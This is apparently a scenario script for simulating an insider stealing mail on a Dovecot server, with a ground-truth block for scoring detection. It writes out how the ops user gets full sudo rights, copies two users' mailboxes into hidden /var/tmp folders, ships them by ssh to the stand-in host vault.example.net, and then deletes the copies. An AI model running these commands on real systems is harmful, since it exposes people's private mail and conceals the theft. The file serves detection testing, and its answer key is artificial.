title="Two mailboxes written out with doveadm backup, taken away over ssh the next day"
what="With the key of ops somebody lists mailboxes, writes those of buyer and clerk out with doveadm backup into hidden folders of /var/tmp, and on the next day sends a tar of them through ssh to vault.example.net, then removes them. ops does ordinary work in between."
host=mx1.example.org user=ops daemons="cron sshd dovecot"
shift_plan="before:2h stage:1h next:1d after:2h"
setup() { dovecot_config; echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops; outside_sshd; }
act() {
  phase before; letters buyer 4; letters clerk 4; small_talk 3
  imap_read buyer 198.51.100.50
  ssh_as ops <<'L'
sudo tail -3 /var/log/mail.log
sudo postqueue -p
L
  phase stage
  ssh_as ops <<'L'
sudo doveadm user '*'
sudo doveadm mailbox status -u buyer messages '*'
sudo doveadm backup -u buyer maildir:/var/tmp/.X11-b
sudo doveadm backup -u clerk maildir:/var/tmp/.X11-c
L
  small_talk 3
  phase next; small_talk 2
  ssh_as ops <<'L'
uptime
sudo tar -C /var/tmp -cJf - .X11-b .X11-c | ssh -q -p 2222 -i .ssh/id_out -o StrictHostKeyChecking=no ops@vault.example.net "cat > /dev/null"
sudo rm -rf /var/tmp/.X11-b /var/tmp/.X11-c
L
  phase after; small_talk 3
}
truth() {
  exec_step backup 'doveadm backup -u buyer' 'a mailbox is written out'
  exec_step pack 'tar -C /var/tmp -cJf' 'packed'
  net_step away 'ssh 203.0.113.67:2222' 'sent away'
  exec_step remove 'rm -rf /var/tmp/.X11-b' 'removed'
}
